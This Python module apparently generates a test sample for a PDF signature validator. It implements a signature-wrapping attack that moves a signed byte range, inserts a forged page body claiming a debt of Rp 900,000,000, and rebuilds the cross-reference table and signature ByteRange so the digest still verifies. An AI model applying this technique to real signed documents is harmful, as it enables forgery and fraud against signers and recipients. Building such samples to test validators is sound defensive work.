"""Signature wrapping (SWA): the second signed part is moved, another body slips in between.

The wrapped file holds every signed byte. A signature object of the attacker's own, with the same
value and a ByteRange for the moved part, makes the digest come out right.
"""

import re

from .letters import one
from .registry import defect

_BODY = b"BT /F1 12 Tf 60 780 Td (Berhutang Rp 900.000.000) Tj ET"
_SIGNATURE = re.compile(rb"(\d+) 0 obj\n<<\n/Type /Sig\n.*?endobj\n", re.DOTALL)
_RANGE = re.compile(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]")


@defect
def signature_wrapped_around_another_body() -> bytes:
    pdf = one().final
    signature, span = _SIGNATURE.search(pdf), _RANGE.search(pdf)
    assert signature
    assert span
    length, restart, rest = (int(number) for number in span.groups())
    # The moved part still ends in the old startxref, so the new section has to stand just there.
    here = int(pdf.rsplit(b"startxref", 1)[1].split()[0])
    between = here - restart
    body = b"7 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (len(_BODY), _BODY)
    trailer = pdf[pdf.rindex(b"trailer") : pdf.rindex(b"startxref")]
    number = int(signature.group(1))
    moved = here + 4096 + len(body) + len(signature.group())
    own = _RANGE.sub(b"/ByteRange [0 %d %d %d]" % (length, moved, rest), signature.group())
    after = here + 2048
    offsets = {**_last_section(pdf, here), 7: after, number: after + len(body)}
    entries = b"".join(b"%d 1\n%010d 00000 n \n" % pair for pair in sorted(offsets.items()))
    section = b"xref\n0 1\n0000000000 65535 f \n" + entries
    inserted = b" " * between + (section + trailer).ljust(2048) + body + own
    inserted = inserted.ljust(moved - restart)
    return pdf[:restart] + inserted + pdf[restart:]


def _last_section(pdf: bytes, at: int) -> dict[int, int]:
    """Object number to offset, as the newest cross-reference section has them."""
    lines = pdf[at : pdf.rindex(b"trailer")].split(b"\n")[1:-1]
    offsets, number = {}, 0
    for line in lines:
        parts = line.split()
        if len(parts) == 2:
            number = int(parts[0])
        else:
            offsets[number] = int(parts[0])
            number += 1
    offsets.pop(0, None)
    return offsets
